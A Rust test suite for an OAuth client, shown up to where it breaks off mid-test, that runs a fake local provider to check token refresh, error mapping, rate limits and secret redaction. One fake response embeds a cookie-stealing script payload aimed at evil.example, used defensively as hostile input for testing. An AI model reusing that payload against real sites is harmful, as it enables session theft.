#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The OAuth client against a fake provider served over real HTTP on
//! 127.0.0.1: client authentication as sent on the wire, extra parameters,
//! how every kind of answer maps to an error, expiry policies, account ids,
//! the authorize URL, the registry, and that no secret leaks into errors or
//! Debug output.
//!
//! The fake token endpoint picks its answer from the refresh token or code
//! it receives (its text up to the first ':'), so one registry serves every
//! scenario.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::extract::{Form, State};
use axum::http::{header, HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use chrono::Utc;
use integrations::oauth::{
    authorize_url, pkce_challenge, pkce_pair, Expiry, OAuthError, ProviderRegistry, TokenClient,
    TokenClientConfig, TokenSet,
};
use secrecy::{ExposeSecret, SecretString};
use serde_json::{json, Value};

const BASIC_SECRET: &str = "basic-s3cret:with&odd=chars";
const POST_SECRET: &str = "post-s3cret-value";
const TIKTOK_SECRET: &str = "tiktok-s3cret-value";

/// One request as the fake provider saw it.
#[derive(Debug, Clone)]
struct Seen {
    path: String,
    authorization: Option<String>,
    accept: Option<String>,
    form: HashMap<String, String>,
}

#[derive(Clone, Default)]
struct Fake {
    seen: Arc<Mutex<Vec<Seen>>>,
    issued: Arc<AtomicUsize>,
}

impl Fake {
    fn record(&self, path: &str, headers: &HeaderMap, form: HashMap<String, String>) {
        let h = |name| {
            headers
                .get(name)
                .map(|v: &header::HeaderValue| v.to_str().unwrap().to_string())
        };
        self.seen.lock().unwrap().push(Seen {
            path: path.to_string(),
            authorization: h(header::AUTHORIZATION),
            accept: h(header::ACCEPT),
            form,
        });
    }

    fn requests(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    fn last(&self) -> Seen {
        self.requests()
            .pop()
            .expect("the fake provider saw no request")
    }
}

fn json_response(status: StatusCode, body: Value) -> Response {
    (status, Json(body)).into_response()
}

async fn token(
    State(fake): State<Fake>,
    headers: HeaderMap,
    Form(form): Form<HashMap<String, String>>,
) -> Response {
    fake.record("/token", &headers, form.clone());
    let key = form
        .get("refresh_token")
        .or_else(|| form.get("code"))
        .cloned()
        .unwrap_or_default();
    let scenario = key.split(':').next().unwrap_or_default().to_string();
    let ok = StatusCode::OK;
    match scenario.as_str() {
        "rotation" | "code" => {
            let n = fake.issued.fetch_add(1, Ordering::SeqCst) + 1;
            json_response(
                ok,
                json!({
                    "access_token": format!("at-{n}"),
                    "refresh_token": format!("rt-{n}"),
                    "expires_in": 3600,
                    "token_type": "bearer",
                    "scope": "read write",
                    "id_token": "header.payload.signature",
                }),
            )
        }
        "omission" => json_response(ok, json!({"access_token": "at-plain"})),
        "string_expiry" => json_response(
            ok,
            json!({"access_token": "at-str", "expires_in": "7200", "token_type": "Bearer"}),
        ),
        "tiktok" => json_response(
            ok,
            json!({
                "access_token": "act.example",
                "expires_in": 86400,
                "open_id": "tt-open-1",
                "refresh_token": "rft.example",
                "refresh_expires_in": 31536000,
                "scope": "user.info.basic,video.list",
                "token_type": "Bearer",
            }),
        ),
        "tiktok_error" => json_response(
            ok,
            json!({
                "error": "invalid_grant",
                "error_description": "Refresh token is invalid or expired.",
                "log_id": "20250101"
            }),
        ),
        "invalid_grant" => json_response(
            StatusCode::BAD_REQUEST,
            json!({"error": "invalid_grant", "error_description": "Token has been expired or revoked."}),
        ),
        // X's answers: a revoked refresh token, and a malformed request.
        "x_revoked" => json_response(
            StatusCode::BAD_REQUEST,
            json!({"error": "invalid_request", "error_description": "Value passed for the token was invalid."}),
        ),
        "x_bad_request" => json_response(
            StatusCode::BAD_REQUEST,
            json!({"error": "invalid_request", "error_description": "Missing required parameter [grant_type]."}),
        ),
        "invalid_client" => json_response(
            StatusCode::UNAUTHORIZED,
            json!({"error": "invalid_client", "error_description": "The OAuth client was not found."}),
        ),
        "echo" => {
            // A careless provider quoting the request back.
            let secret = form.get("client_secret").cloned().unwrap_or_default();
            json_response(
                StatusCode::BAD_REQUEST,
                json!({
                    "error": "invalid_request",
                    "error_description": format!("refresh token {key} with secret {secret} rejected"),
                }),
            )
        }
        "echo_html" => (
            StatusCode::BAD_REQUEST,
            format!("<html>bad token {key}</html>"),
        )
            .into_response(),
        // A provider quoting part of the token (or code) back, with markup,
        // a phone number and links, as a 4xx and as a 5xx.
        "hostile" | "hostile_5xx" | "hostile_markup" => {
            let prefix: String = key.chars().take(20).collect();
            let description = if scenario == "hostile_markup" {
                format!("<script>fetch('//evil.example/?'+document.cookie)</script> {prefix}")
            } else {
                format!("token {prefix} refused; call 555-010-9999, see http://evil.example/x")
            };
            let status = if scenario == "hostile_5xx" {
                StatusCode::BAD_GATEWAY
            } else {
                StatusCode::BAD_REQUEST
            };
            json_response(
                status,
                json!({"error": format!("{prefix}<b>"), "error_description": description}),
            )
        }
        "server_error" => {
            (StatusCode::INTERNAL_SERVER_ERROR, format!("trace {key}")).into_response()
        }
        "rate_limited" => json_response(
            StatusCode::TOO_MANY_REQUESTS,
            json!({"error": "rate_limited", "error_description": "slow down"}),
        ),
        // 503 asking to come back in 7 seconds; 429 with an HTTP-date a
        // day ahead (capped at an hour); 429 with an unreadable value.
        "busy_7s" => (
            StatusCode::SERVICE_UNAVAILABLE,
            [(header::RETRY_AFTER, "7")],
            "busy",
        )
            .into_response(),
        "busy_date" => (
            StatusCode::TOO_MANY_REQUESTS,
            [(
                header::RETRY_AFTER,
                httpdate::fmt_http_date(std::time::SystemTime::now() + Duration::from_secs(86_400)),
            )],
            "busy",
        )
            .into_response(),
        // A revoked grant and a 500, each with a Retry-After: not pauses.
        "revoked_retry_after" => (
            StatusCode::BAD_REQUEST,
            [(header::RETRY_AFTER, "3600")],
            Json(json!({"error": "invalid_grant"})),
        )
            .into_response(),
        "error_retry_after" => (
            StatusCode::INTERNAL_SERVER_ERROR,
            [(header::RETRY_AFTER, "3600")],
            "boom",
        )
            .into_response(),
        "busy_garbage" => (
            StatusCode::TOO_MANY_REQUESTS,
            [(header::RETRY_AFTER, "soon-ish")],
            "busy",
        )
            .into_response(),
        // Never answers: only the client's own timeout ends the request.
        "slow" => std::future::pending::<Response>().await,
        "not_json" => (
            ok,
            [(header::CONTENT_TYPE, "text/html")],
            format!("<html>{key}</html>"),
        )
            .into_response(),
        "no_access_token" => json_response(ok, json!({"token_type": "bearer", "secret": key})),
        _ => json_response(
            StatusCode::BAD_REQUEST,
            json!({"error": "unsupported_scenario"}),
        ),
    }
}

async fn revoke(
    State(fake): State<Fake>,
    headers: HeaderMap,
    Form(form): Form<HashMap<String, String>>,
) -> Response {
    fake.record("/revoke", &headers, form.clone());
    match form.get("token").map(String::as_str) {
        Some("down") => StatusCode::SERVICE_UNAVAILABLE.into_response(),
        _ => StatusCode::OK.into_response(),
    }
}

async fn userinfo(State(fake): State<Fake>, headers: HeaderMap) -> Response {
    fake.record("/userinfo", &headers, HashMap::new());
    let auth = headers
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok());
    match auth {
        Some("Bearer at-userinfo") => json_response(
            StatusCode::OK,
            json!({"id": 424242, "data": {"id": "98765", "username": "someone"}}),
        ),
        _ => json_response(
            StatusCode::UNAUTHORIZED,
            json!({"error": "invalid_token", "error_description": "bad bearer"}),
        ),
    }
}

async fn redirect(State(fake): State<Fake>, headers: HeaderMap) -> Response {
    fake.record("/redirect", &headers, HashMap::new());
    (
        StatusCode::FOUND,
        [(header::LOCATION, "https://example.com/elsewhere")],
    )
        .into_response()
}

/// The fake provider, its registry (written to a file and loaded the way the
/// service loads `INTEGRATIONS_PROVIDERS`) and a client with a short timeout.
struct Harness {
    fake: Fake,
    registry: ProviderRegistry,
    client: TokenClient,
    addr: SocketAddr,
    _dir: tempfile::TempDir,
}

fn env(var: &str) -> Option<String> {
    match var {
        "BASIC_SECRET" => Some(BASIC_SECRET.into()),
        "POST_CLIENT_ID" => Some("post-client".into()),
        "POST_SECRET" => Some(POST_SECRET.into()),
        "TIKTOK_KEY" => Some("tiktok-key".into()),
        "TIKTOK_SECRET" => Some(TIKTOK_SECRET.into()),
        _ => None,
    }
}

async fn harness() -> Harness {
    let fake = Fake::default();
    let app = Router::new()
        .route("/token", post(token))
        .route("/revoke", post(revoke))
        .route("/userinfo", get(userinfo))
        .route("/redirect", post(redirect))
        .with_state(fake.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });

    let base = format!("http://{addr}");
    let toml = format!(
        r#"
[basic]
authorize_url = "{base}/authorize?tenant=t1"
token_url = "{base}/token"
revoke_url = "{base}/revoke"
userinfo_url = "{base}/userinfo"
client_id = "basic-client"
client_secret_env = "BASIC_SECRET"
client_auth = "basic"
scopes = ["openid", "email"]
authorize_params = {{ access_type = "offline", prompt = "consent" }}
token_params = {{ audience = "aud-1" }}
refresh_params = {{ resource = "api" }}
expires_in_default = 600
account_id = {{ from = "userinfo", pointer = "/data/id" }}

[post]
authorize_url = "{base}/authorize"
token_url = "{base}/token"
userinfo_url = "{base}/userinfo"
client_id_env = "POST_CLIENT_ID"
client_secret_env = "POST_SECRET"
client_auth = "post"
never_expires = true
account_id = {{ from = "userinfo", pointer = "/id" }}

[tiktok-like]
authorize_url = "{base}/authorize"
token_url = "{base}/token"
revoke_url = "{base}/revoke"
client_id_env = "TIKTOK_KEY"
client_secret_env = "TIKTOK_SECRET"
client_id_param = "client_key"
client_auth = "post"
scopes = ["user.info.basic", "video.list"]
scope_separator = ","
pkce = false
expires_in_default = 86400
account_id = {{ from = "token", pointer = "/open_id" }}

[x-like]
authorize_url = "{base}/authorize"
token_url = "{base}/token"
client_id = "x"
client_secret_env = "POST_SECRET"
client_auth = "basic"
revoked_when = [{{ error = "invalid_request", description_contains = "TOKEN WAS INVALID" }}]

[redirecting]
authorize_url = "{base}/authorize"
token_url = "{base}/redirect"
client_id = "r"
client_secret_env = "POST_SECRET"
client_auth = "post"

[dead]
authorize_url = "http://127.0.0.1:1/authorize"
token_url = "http://127.0.0.1:1/token"
client_id = "d"
client_secret_env = "POST_SECRET"
client_auth = "post"

[unconfigured]
authorize_url = "{base}/authorize"
token_url = "{base}/token"
client_id_env = "UNSET_CLIENT_ID"
client_secret_env = "UNSET_SECRET"
client_auth = "basic"
"#
    );
    let dir = tempfile::tempdir().unwrap();
    let path: PathBuf = dir.path().join("providers.toml");
    std::fs::write(&path, toml).unwrap();
    let registry = ProviderRegistry::load(Some(&path), &env).unwrap();
    assert_eq!(registry.source(), path.display().to_string());
    let client = TokenClient::new(&TokenClientConfig {
        timeout: Duration::from_millis(800),
        ..TokenClientConfig::default()
    })
    .unwrap();
    Harness {
        fake,
        registry,
        client,
        addr,
        _dir: dir,
    }
}

impl Harness {
    /// Refreshes with `refresh_token`; a bare scenario name gets a suffix
    /// (":rt") so the token never equals an error code the client would
    /// scrub from the provider's answer.
    async fn refresh(&self, provider: &str, refresh_token: &str) -> Result<TokenSet, OAuthError> {
        let p = self.registry.get(provider).unwrap();
        let refresh_token = if refresh_token.contains(':') {
            refresh_token.to_string()
        } else {
            format!("{refresh_token}:rt")
        };
        self.client
            .refresh(p, &SecretString::from(refresh_token))
            .await
    }
}

/// Decodes `Basic base64(urlencode(id):urlencode(secret))`.
fn decode_basic(header: &str) -> (String, String) {
    let encoded = header.strip_prefix("Basic ").expect("a Basic header");
    let raw = String::from_utf8(STANDARD.decode(encoded).unwrap()).unwrap();
    let (id, secret) = raw.split_once(':').unwrap();
    let decode = |s: &str| {
        url::form_urlencoded::parse(format!("x={s}").as_bytes())
            .next()
            .unwrap()
            .1
            .into_owned()
    };
    (decode(id), decode(secret))
}

fn secs_from_now(t: chrono::DateTime<Utc>) -> i64 {
    (t - Utc::now()).num_seconds()
}

#[tokio::test]
async fn basic_client_auth_sends_the_header_and_refresh_params() {
    let h = harness().await;
    let t = h.refresh("basic", "rotation:1").await.unwrap();
    assert_eq!(t.access_token.expose_secret(), "at-1");

    let seen = h.fake.last();
    assert_eq!(seen.path, "/token");
    let (id, secret) = decode_basic(seen.authorization.as_deref().unwrap());
    assert_eq!(
        (id.as_str(), secret.as_str()),
        ("basic-client", BASIC_SECRET)
    );
    assert_eq!(seen.accept.as_deref(), Some("application/json"));
    assert_eq!(seen.form["grant_type"], "refresh_token");
    assert_eq!(seen.form["refresh_token"], "rotation:1");
    assert_eq!(seen.form["resource"], "api");
    assert!(!seen.form.contains_key("client_id"));
    assert!(!seen.form.contains_key("client_secret"));
    assert!(
        !seen.form.contains_key("audience"),
        "token_params are for the code grant only"
    );
}

#[tokio::test]
async fn post_client_auth_sends_id_and_secret_in_the_body() {
    let h = harness().await;
    h.refresh("post", "rotation:1").await.unwrap();
    let seen = h.fake.last();
    assert_eq!(seen.authorization, None);
    assert_eq!(seen.form["client_id"], "post-client");
    assert_eq!(seen.form["client_secret"], POST_SECRET);
    assert_eq!(seen.form["grant_type"], "refresh_token");
}

#[tokio::test]
async fn tiktok_style_sends_client_key_and_takes_account_id_from_the_token() {
    let h = harness().await;
    let t = h.refresh("tiktok-like", "tiktok:1").await.unwrap();
    let seen = h.fake.last();
    assert_eq!(seen.authorization, None);
    assert_eq!(seen.form["client_key"], "tiktok-key");
    assert_eq!(seen.form["client_secret"], TIKTOK_SECRET);
    assert!(!seen.form.contains_key("client_id"));

    assert_eq!(
        t.refresh_token.as_ref().unwrap().expose_secret(),
        "rft.example"
    );
    assert_eq!(t.scopes, ["user.info.basic", "video.list"]);
    assert_eq!(t.extra["open_id"], "tt-open-1");
    assert_eq!(t.extra["refresh_expires_in"], 31536000);
    let p = h.registry.get("tiktok-like").unwrap();
    let before = h.fake.requests().len();
    assert_eq!(h.client.account_id(p, &t).await.unwrap(), "tt-open-1");
    assert_eq!(
        h.fake.requests().len(),
        before,
        "no request for a token-side account id"
    );
}

#[tokio::test]
async fn rotation_returns_a_new_refresh_token_each_time() {
    let h = harness().await;
    let a = h.refresh("basic", "rotation:a").await.unwrap();
    let b = h.refresh("basic", "rotation:b").await.unwrap();
    assert_eq!(a.refresh_token.unwrap().expose_secret(), "rt-1");
    assert_eq!(b.refresh_token.unwrap().expose_secret(), "rt-2");
    assert_eq!(b.access_token.expose_secret(), "at-2");
    assert_eq!(b.scopes, ["read", "write"]);
    assert_eq!(b.token_type, "bearer");
    assert!(
        !b.extra.contains_key("id_token"),
        "id_token is not kept: {:?}",
        b.extra
    );
    let left = secs_from_now(b.expires_at.unwrap());
    assert!((3590..=3600).contains(&left), "{left}");
}

#[tokio::test]
async fn omitted_refresh_token_and_expiry_follow_the_provider_policy() {
    let h = harness().await;
    // expires_in_default = 600
    let t = h.refresh("basic", "omission").await.unwrap();
    assert!(
        t.refresh_token.is_none(),
        "caller keeps the old refresh token"
    );
    let left = secs_from_now(t.expires_at.unwrap());
    assert!((590..=600).contains(&left), "{left}");
    assert_eq!(t.token_type, "Bearer");
    // never_expires = true
    let t = h.refresh("post", "omission").await.unwrap();
    assert_eq!(t.expires_at, None);
    assert_eq!(
        h.registry.get("post").unwrap().expiry,
        Expiry::Never,
        "the same policy serves bodies the app PUTs"
    );
}

#[tokio::test]
async fn expires_in_as_a_string_is_parsed() {
    let h = harness().await;
    let t = h.refresh("post", "string_expiry").await.unwrap();
    let left = secs_from_now(t.expires_at.unwrap());
    assert!((7190..=7200).contains(&left), "{left}");
}

#[tokio::test]
async fn invalid_grant_means_the_grant_is_gone() {
    let h = harness().await;
    let e = h.refresh("basic", "invalid_grant").await.unwrap_err();
    assert_eq!(
        e,
        OAuthError::InvalidGrant {
            error: "invalid_grant".into(),
            description: Some("Token has been expired or revoked.".into())
        }
    );
    assert!(e.is_invalid_grant() && !e.is_transient());
    // TikTok-style: the error comes with HTTP 200.
    let e = h.refresh("tiktok-like", "tiktok_error").await.unwrap_err();
    assert!(matches!(e, OAuthError::InvalidGrant { .. }), "{e:?}");
}

#[tokio::test]
async fn revoked_when_reads_a_provider_specific_answer_as_a_revoked_grant() {
    let h = harness().await;
    let e = h.refresh("x-like", "x_revoked").await.unwrap_err();
    assert_eq!(
        e,
        OAuthError::InvalidGrant {
            error: "invalid_request".into(),
            description: Some("Value passed for the token was invalid.".into())
        }
    );
    assert!(e.is_invalid_grant());
    assert!(e.to_string().contains("(invalid_request)"), "{e}");
    // The same code with another description is a rejection, not a
    // revocation (a configuration mistake must not revoke integrations).
    let e = h.refresh("x-like", "x_bad_request").await.unwrap_err();
    assert!(
        matches!(e, OAuthError::Rejected { status: 400, .. }),
        "{e:?}"
    );
    // A provider without the rule: a rejection.
    let e = h.refresh("basic", "x_revoked").await.unwrap_err();
    assert!(
        matches!(e, OAuthError::Rejected { status: 400, .. }),
        "{e:?}"
    );
}

#[test]
fn revoked_when_rejects_empty_fields() {
    let toml = r#"
[p]
authorize_url = "https://example.com/a"
token_url = "https://example.com/t"
client_id = "c"
client_secret_env = "S"
client_auth = "basic"
revoked_when = [{ error = "" }]
"#;
    let e = ProviderRegistry::from_toml(toml, "test.toml", &env).unwrap_err();
    assert!(
        e.to_string().contains("provider 'p': field 'revoked_when'"),
        "{e}"
    );
}

#[tokio::test]
async fn invalid_client_is_a_rejection_not_a_retry() {
    let h = harness().await;
    let e = h.refresh("basic", "invalid_client").await.unwrap_err();
    assert_eq!(
        e,
        OAuthError::Rejected {
            status: 401,
            error: "invalid_client".into(),
            description: Some("The OAuth client was not found.".into()),
        }
    );
    assert!(!e.is_transient());
}

#[tokio::test]
async fn server_errors_and_rate_limits_are_transient() {
    let h = harness().await;
    for scenario in ["server_error", "rate_limited"] {
        let e = h.refresh("basic", scenario).await.unwrap_err();
        assert!(e.is_transient(), "{scenario}: {e:?}");
        assert!(e.to_string().contains("provider 'basic'"), "{e}");
    }
    let e = h.refresh("basic", "server_error").await.unwrap_err();
    assert!(e.to_string().contains("500"), "{e}");
    assert!(
        matches!(e, OAuthError::Transient(_)),
        "a 5xx alone is not a pause: {e:?}"
    );
    // A 429, or any error answer with a Retry-After, asks for a pause: how
    // long is the provider's Retry-After (seconds or an HTTP-date, at most
    // an hour), else 10 s.
    for (scenario, wait) in [
        ("rate_limited", 10),
        ("busy_7s", 7),
        ("busy_date", 3600),
        ("busy_garbage", 10),
    ] {
        match h.refresh("basic", scenario).await.unwrap_err() {
            OAuthError::RateLimited {
                retry_after,
                message,
            } => {
                assert_eq!(retry_after, Duration::from_secs(wait), "{scenario}");
                assert!(message.contains("provider 'basic'"), "{message}");
            }
            other => panic!("{scenario}: {other:?}"),
        }
    }
    let e = h.refresh("basic", "revoked_retry_after").await.unwrap_err();
    assert!(e.is_invalid_grant(), "{e:?}");
    let e = h.refresh("basic", "error_retry_after").await.unwrap_err();
    assert!(matches!(e, OAuthError::Transient(_)), "{e:?}");
}

#[tokio::test]
async fn a_slow_provider_times_out_as_transient() {
    let h = harness().await;
    // The provider never answers, so only the client's timeout (800 ms)
    // ends this; the outer bound only turns a missing timeout into a
    // failure rather than a hung test.
    let e = tokio::time::timeout(Duration::from_secs(60), h.refresh("basic", "slow"))
        .await
        .expect("the client's own timeout ends the request")
        .unwrap_err();
    assert!(e.is_transient(), "{e:?}");
    assert!(
        e.to_string()
            .contains("did not answer in time (timeout 800ms)"),
        "{e}"
    );
}

#[tokio::test]
async fn an_unreachable_provider_is_transient() {
    let h = harness().await;
    let e = h.refresh("dead", "rotation").await.unwrap_err();
    assert!(e.is_transient(), "{e:?}");
}

#[tokio::test]
async fn a_2xx_that_is_not_a_token_response_is_malformed() {
    let h = harness().await;
    let e = h.refresh("basic", "not_json:html").await.unwrap_err();
    assert!(matches!(e, OAuthError::Malformed(_)), "{e:?}");
    assert!(
        e.to_string().contains("not JSON") && e.to_string().contains("text/html"),
        "{e}"
    );
    let e = h.refresh("basic", "no_access_token").await.unwrap_err();
    assert!(matches!(e, OAuthError::Malformed(_)), "{e:?}");
    assert!(e.to_string().contains("'access_token' is missing"), "{e}");
}

#[tokio::test]
async fn a_redirect_is_not_followed() {
    let h = harness().await;
    let e = h.refresh("redirecting", "rotation").await.unwrap_err();
    assert!(
        matches!(e, OAuthError::Rejected { status: 302, .. }),
        "{e:?}"
    );
    assert_eq!(h.fake.requests().len(), 1);
}

#[tokio::test]
async fn exchange_code_sends_code_redirect_verifier_and_token_params() {
    let h = harness().await;
    let p = h.registry.get("basic").unwrap();
    let (verifier, _) = pkce_pair();
    let verifier = verifier.expose_secret();
    let t = h
        .client
        .exchange_code(
            p,
            "code:abc",
            "https://app.example/callback",
            Some(verifier),
        )
        .await
        .unwrap();
    assert_eq!(t.refresh_token.unwrap().expose_secret(), "rt-1");
    let seen = h.fake.last();
    assert_eq!(seen.form["grant_type"], "authorization_code");
    assert_eq!(seen.form["code"], "code:abc");
    assert_eq!(seen.form["redirect_uri"], "https://app.example/callback");
    assert_eq!(seen.form["code_verifier"], verifier);
    assert_eq!(seen.form["audience"], "aud-1");
    assert!(!seen.form.contains_key("resource"));
    assert!(seen.authorization.unwrap().starts_with("Basic "));

    let p = h.registry.get("tiktok-like").unwrap();
    h.client
        .exchange_code(p, "code:x", "https://app.example/cb", None)
        .await
        .unwrap();
    assert!(!h.fake.last().form.contains_key("code_verifier"));
}

#[tokio::test]
async fn revoke_sends_the_token_and_hint_with_client_auth() {
    let h = harness().await;
    let p = h.registry.get("tiktok-like").unwrap();
    h.client
        .revoke(p, &SecretString::from("rt-9"), "refresh_token")
        .await
        .unwrap();
    let seen = h.fake.last();
    assert_eq!(seen.path, "/revoke");
    assert_eq!(seen.form["token"], "rt-9");
    assert_eq!(seen.form["token_type_hint"], "refresh_token");
    assert_eq!(seen.form["client_key"], "tiktok-key");
    assert_eq!(seen.form["client_secret"], TIKTOK_SECRET);

    let p = h.registry.get("basic").unwrap();
    h.client
        .revoke(p, &SecretString::from("at-1"), "")
        .await
        .unwrap();
    let seen = h.fake.last();
    assert!(!seen.form.contains_key("token_type_hint"));
    assert_eq!(
        decode_basic(seen.authorization.as_deref().unwrap()).1,
        BASIC_SECRET
    );

    let e = h
        .client
        .revoke(p, &SecretString::from("down"), "access_token")
        .await
        .unwrap_err();
    assert!(e.is_transient(), "{e:?}");

    // No revoke_url: nothing to do, nothing sent.
    let before = h.fake.requests().len();
    let p = h.registry.get("post").unwrap();
    h.client
        .revoke(p, &SecretString::from("x"), "access_token")
        .await
        .unwrap();
    assert_eq!(h.fake.requests().len(), before);
}

fn tokens(access: &str) -> TokenSet {
    TokenSet::from_response(&json!({"access_token": access}), Utc::now(), Expiry::Never).unwrap()
}

#[tokio::test]
async fn account_id_from_userinfo_uses_the_bearer_token_and_stringifies_numbers() {
    let h = harness().await;
    let basic = h.registry.get("basic").unwrap();
    let id = h
        .client
        .account_id(basic, &tokens("at-userinfo"))
        .await
        .unwrap();
    assert_eq!(id, "98765");
    let seen = h.fake.last();
    assert_eq!(seen.path, "/userinfo");
    assert_eq!(seen.authorization.as_deref(), Some("Bearer at-userinfo"));

    let post = h.registry.get("post").unwrap();
    let id = h
        .client
        .account_id(post, &tokens("at-userinfo"))
        .await
        .unwrap();
    assert_eq!(id, "424242");

    let e = h
        .client
        .account_id(post, &tokens("at-wrong"))
        .await
        .unwrap_err();
    assert!(
        matches!(&e, OAuthError::Rejected { status: 401, error, .. } if error == "invalid_token"),
        "{e:?}"
    );
    assert!(!e.to_string().contains("at-wrong"));

    let e = h
        .client
        .account_id(h.registry.get("dead").unwrap(), &tokens("x"))
        .await
        .unwrap_err();
    assert!(
        matches!(e, OAuthError::NotConfigured(ref m) if m.contains("account_id")),
        "{e:?}"
    );
}

#[tokio::test]
async fn authorize_url_has_every_parameter_and_a_matching_pkce_challenge() {
    let h = harness().await;
    let p = h.registry.get("basic").unwrap();
    let (verifier, challenge) = pkce_pair();
    let verifier = verifier.expose_secret();
    assert!((43..=128).contains(&verifier.len()));
    let url = authorize_url(
        p,
        "https://app.example/callback",
        "state-123",
        Some(&challenge),
        None,
    )
    .unwrap();
    assert_eq!(url.path(), "/authorize");
    assert_eq!(url.host_str(), Some("127.0.0.1"));
    assert_eq!(url.port(), Some(h.addr.port()));
    let q: HashMap<String, String> = url.query_pairs().into_owned().collect();
    assert_eq!(q["tenant"], "t1", "the URL's own query is kept");
    assert_eq!(q["response_type"], "code");
    assert_eq!(q["client_id"], "basic-client");
    assert_eq!(q["redirect_uri"], "https://app.example/callback");
    assert_eq!(q["scope"], "openid email");
    assert_eq!(q["state"], "state-123");
    assert_eq!(q["code_challenge_method"], "S256");
    assert_eq!(q["code_challenge"], pkce_challenge(verifier));
    assert_eq!(q["access_type"], "offline");
    assert_eq!(q["prompt"], "consent");
    assert_eq!(q.len(), 10, "{q:?}");

    let e = authorize_url(p, "https://app.example/cb", "s", None, None).unwrap_err();
    assert!(matches!(e, OAuthError::NotConfigured(_)), "{e:?}");

    // TikTok-style: client_key, comma-joined scopes, no PKCE.
    let p = h.registry.get("tiktok-like").unwrap();
    let scopes = vec!["user.info.basic".to_string(), "video.upload".to_string()];
    let url = authorize_url(p, "https://app.example/cb", "s", None, Some(&scopes)).unwrap();
    let q: HashMap<String, String> = url.query_pairs().into_owned().collect();
    assert_eq!(q["client_key"], "tiktok-key");
    assert_eq!(q["scope"], "user.info.basic,video.upload");
    assert!(!q.contains_key("client_id") && !q.contains_key("code_challenge"));
    assert!(url
        .as_str()
        .contains("scope=user.info.basic%2Cvideo.upload"));
}

#[tokio::test]
async fn an_unconfigured_provider_names_the_variable_to_set_and_sends_nothing() {
    let h = harness().await;
    let e = h.refresh("unconfigured", "rotation").await.unwrap_err();
    assert!(
        matches!(&e, OAuthError::NotConfigured(m) if m.contains("UNSET_CLIENT_ID")),
        "{e:?}"
    );
    assert!(h.fake.requests().is_empty());
    let p = h.registry.get("unconfigured").unwrap();
    let e = p.client_secret().unwrap_err();
    assert!(
        e.to_string()
            .contains("set the environment variable UNSET_SECRET"),
        "{e}"
    );
    assert!(h.registry.names().contains(&"unconfigured"));
}

#[tokio::test]
async fn error_messages_never_contain_tokens_codes_or_secrets() {
    let h = harness().await;
    let refresh_token = "echo:RT-very-private-123";
    let e = h.refresh("post", refresh_token).await.unwrap_err();
    assert!(
        matches!(&e, OAuthError::Rejected { error, .. } if error == "invalid_request"),
        "{e:?}"
    );
    for text in [e.to_string(), format!("{e:?}")] {
        assert!(!text.contains("RT-very-private-123"), "{text}");
        assert!(!text.contains(POST_SECRET), "{text}");
        assert!(text.contains("[REDACTED]"), "{text}");
    }

    let p = h.registry.get("basic").unwrap();
    let scenarios = [
        "echo_html:RT-very-private-123",
        "server_error:RT-very-private-123",
        "not_json:RT-very-private-123",
        "no_access_token:RT-very-private-123",
        "invalid_grant:RT-very-private-123",
    ];
    for rt in scenarios {
        let e = h.refresh("basic", rt).await.unwrap_err();
        for text in [e.to_string(), format!("{e:?}")] {
            assert!(!text.contains("RT-very-private"), "{rt}: {text}");
            assert!(!text.contains(BASIC_SECRET), "{rt}: {text}");
            assert!(!text.contains("<html>"), "{rt}: {text}");
        }
        let e = h
            .client
            .exchange_code(
                p,
                rt,
                "https://app.example/cb",
                Some("verifier-private-456"),
            )
            .await
            .unwrap_err();
        let text = format!("{e} {e:?}");
        assert!(
            !text.contains("RT-very-private") && !text.contains("verifier-private"),
            "{text}"
        );
    }
}

#[tokio::test]
async fn debug_output_has_no_secrets() {
    let h = harness().await;
    for name in ["basic", "post", "tiktok-like"] {
        let d = format!("{:?}", h.registry.get(name).unwrap());
        for secret in [BASIC_SECRET, POST_SECRET, TIKTOK_SECRET] {
            assert!(!d.contains(secret), "{d}");
        }
        assert!(d.contains("[REDACTED]"), "{d}");
    }
    let d = format!("{:?}", h.registry);
    assert!(!d.contains(BASIC_SECRET) && !d.contains(POST_SECRET));

    let t = h.refresh("basic", "rotation").await.unwrap();
    let d = format!("{t:?}");
    assert!(!d.contains("at-1") && !d.contains("rt-1"), "{d}");
}

#[test]
fn unknown_provider_lists_the_known_names() {
    let registry = ProviderRegistry::load(None, &|_: &str| None).unwrap();
    let e = registry.get("foo").unwrap_err();
    assert_eq!(
        e.to_string(),
        "unknown provider 'foo'; known: github, google, reddit, tiktok, x"
    );
}

#[test]
fn the_shipped_registry_has_the_documented_endpoints() {
    let r = ProviderRegistry::load(None, &|_: &str| None).unwrap();
    assert_eq!(r.names(), ["github", "google", "reddit", "tiktok", "x"]);
    let url = |name: &str| {
        let p = r.get(name).unwrap();
        (
            p.authorize_url.to_string(),
            p.token_url.to_string(),
            p.revoke_url.as_ref().map(ToString::to_string),
        )
    };
    assert_eq!(
        url("google"),
        (
            "https://accounts.google.com/o/oauth2/v2/auth".into(),
            "https://oauth2.googleapis.com/token".into(),
            Some("https://oauth2.googleapis.com/revoke".into())
        )
    );
    assert_eq!(
        url("github").1,
        "https://github.com/login/oauth/access_token"
    );
    assert_eq!(
        url("reddit").2.as_deref(),
        Some("https://www.reddit.com/api/v1/revoke_token")
    );
    assert_eq!(
        url("tiktok").1,
        "https://open.tiktokapis.com/v2/oauth/token/"
    );
    assert_eq!(url("x").1, "https://api.twitter.com/2/oauth2/token");
    let x_revoked = &r.get("x").unwrap().revoked_when;
    assert!(x_revoked[0].matches(
        "invalid_request",
        Some("Value passed for the token was invalid.")
    ));
    assert!(!x_revoked[0].matches("invalid_request", Some("Missing required parameter")));

    let google = r.get("google").unwrap();
    assert_eq!(google.authorize_params["access_type"], "offline");
    assert_eq!(google.authorize_params["prompt"], "consent");
    assert_eq!(google.account_id.as_ref().unwrap().pointer, "/sub");
    assert_eq!(r.get("github").unwrap().expiry, Expiry::Never);
